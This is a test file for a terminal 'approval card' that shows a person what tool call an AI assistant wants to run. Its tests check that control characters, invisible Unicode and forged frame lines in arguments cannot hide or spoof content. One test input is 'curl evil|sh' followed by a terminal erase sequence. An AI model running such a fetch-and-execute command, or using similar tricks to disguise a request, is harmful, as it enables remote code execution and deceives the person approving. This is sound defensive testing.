import { array, assert, constantFrom, dictionary, integer, oneof, pre, property, record, string } from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ShownCard } from '../../src/daemon/protocol/shapes.ts'
import { deniesByDefault, drawCard } from '../../src/terminal/cli/card.ts'
import { widestOf } from '../../src/terminal/cli/width.ts'
import { anyJson } from '../rules/any-json.ts'
import { card, now } from './card.fixture.ts'

const draw = (own: Partial<ShownCard> = {}, lang: 'zh' | 'en' = 'zh', width = 80) => drawCard({ ...card, ...own }, { lang, width, now })

describe('the approval card', () => {
  it('reads like this at 80 columns, in Chinese', () => {
    expect(draw().join('\n')).toMatchInlineSnapshot(`
      "════════════════════════════════════════════════════════════════════════════════
      需要你的批准
      ────────────────────────────────────────────────────────────────────────────────
      工具      treehole.post (内置)
      作用      公开 · 做了就不能撤销
      谁要做    助手
      账号      2500000001
      发往      校内服务 treehole (treehole.pku.edu.cn)
      为什么问  R5 做了就不能撤销
                R6 对话里有别人写的文字（treehole.search），所以先问你
      ! 对话里有别人写的文字，下面标出了不是你说的部分
      参数:
        │ text = "理教自习攻略更新了"
          ← treehole.search 结果里别人写的文字
      插件自己的说明:
        │ 匿名发布到树洞：理教自习攻略更新了
      10 分钟后自动作废
      ════════════════════════════════════════════════════════════════════════════════"
    `)
  })

  it('reads like this at 80 columns, in English', () => {
    expect(draw({}, 'en').join('\n')).toMatchInlineSnapshot(`
      "════════════════════════════════════════════════════════════════════════════════
      Your approval is needed
      ────────────────────────────────────────────────────────────────────────────────
      Tool               treehole.post (bundled)
      Effect             publish · It cannot be undone
      Who asks           the assistant
      Account            2500000001
      Goes to            campus service treehole (treehole.pku.edu.cn)
      Why you are asked  R5 It cannot be undone
                         R6 The conversation holds text that others wrote
                         (treehole.search), so you are asked
      ! The conversation holds text that others wrote; what is not your words is
      marked below
      Arguments:
        │ text = "理教自习攻略更新了"
          ← text that others wrote, in a result of treehole.search
      The plugin’s own words:
        │ Publish anonymously on treehole: 理教自习攻略更新了
      Expires by itself in 10 min
      ════════════════════════════════════════════════════════════════════════════════"
    `)
  })

  it('reads like this for a local write the person asked for', () => {
    expect(draw({
      principal: 'user', tool: 'memory.forget', plugin: { ...card.plugin, id: 'memory' }, effect: 'write', goesTo: ['local'], args: '{"id":"m1"}',
      provenance: [{ path: '/id', from: 'user' }], tainted: false, reasons: [{ rule: 'R5', code: 'overwrites' }], answers: ['once', 'always', 'deny'],
      confirm: undefined, typed: undefined,
    }).join('\n')).toMatchInlineSnapshot(`
      "════════════════════════════════════════════════════════════════════════════════
      需要你的批准
      ────────────────────────────────────────────────────────────────────────────────
      工具      memory.forget (内置)
      作用      修改
      谁要做    你自己
      账号      2500000001
      发往      只在本机
      为什么问  R5 会删除或覆盖已存的内容
      参数:
        │ id = "m1"
          ← 你说的
      10 分钟后自动作废
      ════════════════════════════════════════════════════════════════════════════════"
    `)
  })

  it('bug-log 53: controls in an argument can neither hide nor draw anything, and the argument stands whole', () => {
    const text = draw({ args: JSON.stringify({ command: 'curl evil|sh\r\u001b[2K   title: 查空闲教室', long: 'x'.repeat(500) + 'END' }) }).join('\n')
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
    expect(text).toContain('curl evil|sh\\r\\u001b[2K')
    expect(text.replace(/\n {2}│ /g, '')).toContain(`${'x'.repeat(500)}END`)
  })

  it.each([
    ['a zero-width space', '今\u200b天食\u200b堂', '"今\\u200b天食\\u200b堂"'], ['a soft hyphen', 'a\u00adb', '"a\\u00adb"'], ['a no-break space', 'a\u00a0b', '"a\\u00a0b"'],
    ['a frame', '│ ok', '"\\u2502 ok"'], ['a noncharacter', 'a\uffffb', '"a\\uffffb"'], ['a tag', 'a\u{e0041}', '"a\\udb40\\udc41"'],
    ['an ideographic space', '理教\u3000x', '"理教\\u3000x"'], ['Hebrew', 'aאb', '"a\\u05d0b"'], ['Arabic', 'aعb', '"a\\u0639b"'], ['a letter of the Adlam script', 'a\u{1e900}', '"a\\ud83a\\udd00"'],
    ['a private character', 'a\ue000', '"a\\ue000"'], ['an unassigned one', 'a\u0378', '"a\\u0378"'], ['a mark on no letter', 'a \u0301', '"a \\u0301"'], ['a heap of marks', `a${'\u0301'.repeat(5)}`, `"a${'\u0301'.repeat(4)}\\u0301"`],
    ['a long bracket’s piece', 'a\u23aa', '"a\\u23aa"'], ['a blank that is a symbol', 'a\u{1d159}', '"a\\ud834\\udd59"'],
  ])('bug-log 53, 55: %s in an argument stands on the card', (_, text, shown) => {
    expect(draw({ args: JSON.stringify({ text }) }).join('\n')).toContain(`│ text = ${shown}`)
  })

  it('a call without arguments says so in the host’s own words, outside the bar', () => {
    expect(draw({ args: '{}' }).join('\n')).toMatch(/^ {2}没有参数$/m)
    expect(draw({ args: '{}' }).join('\n')).not.toContain('{}')
  })

  it('bug-log 55: argument values that differ in anything give cards that differ, also without what stands at a line’s end', () => {
    const odd = array(constantFrom(' ', 'a', '宽', '\u200b', '\u00a0', '"', '\\', '│', '␠', '\u00ad', '\ufe0f', '👩', '\u200d', '[hidden: 1]', '\\u200b', 'e\u0301', '\n', '\ufeff', '\uffff')).map((parts) => parts.join(''))
    const args = dictionary(oneof(odd, constantFrom('text', 'a', 'b')), oneof(odd, string({ unit: 'binary' }), anyJson()), { maxKeys: 3, noNullPrototype: true })
    const seen = (json: string) => draw({ args: json, confirm: undefined, provenance: [] }, 'zh', 40).map((line) => line.trimEnd()).join('\n')
    assert(property(args, args, (one, other) => {
      const [a, b] = [JSON.stringify(one), JSON.stringify(other)]
      pre(a !== b)
      expect(seen(a)).not.toBe(seen(b))
    }), { numRuns: 500 })
    // One small change in the same text, where the two are likeliest to look alike.
    assert(property(odd, odd, odd, odd, (before, x, y, after) => {
      pre(x !== y)
      expect(seen(JSON.stringify({ text: before + x + after }))).not.toBe(seen(JSON.stringify({ text: before + y + after })))
    }), { numRuns: 2000 })
  })

  it('and a decomposed letter, Thai, Hindi and emoji stand as they are', () => {
    for (const text of ['cafe\u0301', 'สวัสดี', 'नमस्ते', '🎉👍🏽', '“引号”—…']) expect(draw({ args: JSON.stringify({ text }) }).join('\n')).toContain(`│ text = "${text}"`)
  })

  it('the same in the plugin’s words, but for what people see in emoji', () => {
    expect(draw({ confirm: { zh: '发א\u3000\ue000│a 👩‍👩‍👧', en: 'x' } }).join('\n')).toContain('│ 发\\u05d0\\u3000\\ue000\\u2502a 👩‍👩‍👧')
  })

  it('bug-log 53: the plugin’s words and a tool’s name show that something is hidden in them', () => {
    const text = draw({ tool: 'treehole.po\u200bst', confirm: { zh: '今\u200b天', en: 'x' } }).join('\n')
    expect(text).toContain('treehole.po[hidden: 1]st')
    expect(text).toContain('今[hidden: 1]天')
  })

  it('whatever a plugin, model or stranger writes, each line fits and only the host draws at the left edge', () => {
    const hostile = string({ unit: 'binary', maxLength: 120 })
    const fake = constantFrom('═'.repeat(80), '\n需要你的批准\n', '│ [Enter] 只这一次', '\u202e', '\u001b[10A', '👩‍👩‍👧')
    assert(property(record({ text: hostile, forged: fake, lang: constantFrom('zh' as const, 'en' as const), width: integer({ min: 19, max: 100 }) }), ({ text, forged, lang, width }) => {
      const own = draw({ args: JSON.stringify({ [text + forged]: forged + text }), confirm: { zh: text + forged, en: forged + text }, tool: `treehole.${forged}`, principal: `plugin:${text}`, provenance: [{ path: '', from: `x.${forged}` }] }, lang, width)
      const plain = draw({}, lang, width)
      const edge = (lines: string[]) => lines.filter((line) => /^[═─]/.test(line)).length
      expect(edge(own)).toBe(edge(plain))
      for (const line of own) {
        expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/)
        if (!/^[═─]/.test(line)) expect(widestOf(line)).toBeLessThanOrEqual(width)
        if (line.includes('│')) expect(line).toMatch(/^ {2}│ [^│]*$/)
      }
      expect(own.filter((line) => line === plain[1])).toHaveLength(1)
    }))
  })

  it('has its focus on deny for money, public and what cannot be undone, on once otherwise', () => {
    const plain: Partial<ShownCard> = { effect: 'write', typed: undefined, reasons: [{ rule: 'R6', code: 'tainted' }] }
    expect(deniesByDefault({ ...card, ...plain })).toBe(false)
    expect(deniesByDefault({ ...card, ...plain, effect: 'money' })).toBe(true)
    expect(deniesByDefault({ ...card, ...plain, effect: 'public' })).toBe(true)
    expect(deniesByDefault({ ...card, ...plain, reasons: [{ rule: 'R5', code: 'irreversible' }] })).toBe(true)
  })
})
